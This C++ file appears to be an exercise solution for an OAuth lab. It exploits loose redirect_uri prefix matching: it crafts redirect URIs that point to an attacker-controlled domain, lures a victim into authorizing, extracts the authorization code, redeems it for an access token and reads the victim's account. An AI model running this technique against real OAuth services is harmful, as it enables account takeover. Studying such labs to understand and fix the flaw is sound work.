// Unusual: writes the link by hand, and cuts the code out of what it caught.
#include "redirect_prefix.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto trap = evidence.redirect_uri + "\\@login." + evidence.your_domain + "/callback";
  const auto plain = evidence.redirect_uri + ".login." + evidence.your_domain + "/callback";
  (void)evidence.lure("https://" + evidence.your_domain + "/");  // Does she click at all?
  (void)evidence.lure(evidence.authorize + "?response_type=code&client_id=" + evidence.client_id +
                      "&redirect_uri=" + trap);
  const auto caught = evidence.lure(
      evidence.authorize + "?response_type=code&client_id=" + evidence.client_id + "&redirect_uri=" + plain);
  const auto start = caught.find("code=");
  if (start == std::string::npos) return {};
  const auto code = caught.substr(start + 5, caught.find('&', start) - start - 5);
  const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
                                       {"client_id", evidence.client_id},
                                       {"redirect_uri", plain},
                                       {"code", code}});
  return {.account = evidence.show_me(answer.json().text("access_token").value_or("")).body};
}

}  // namespace lesson
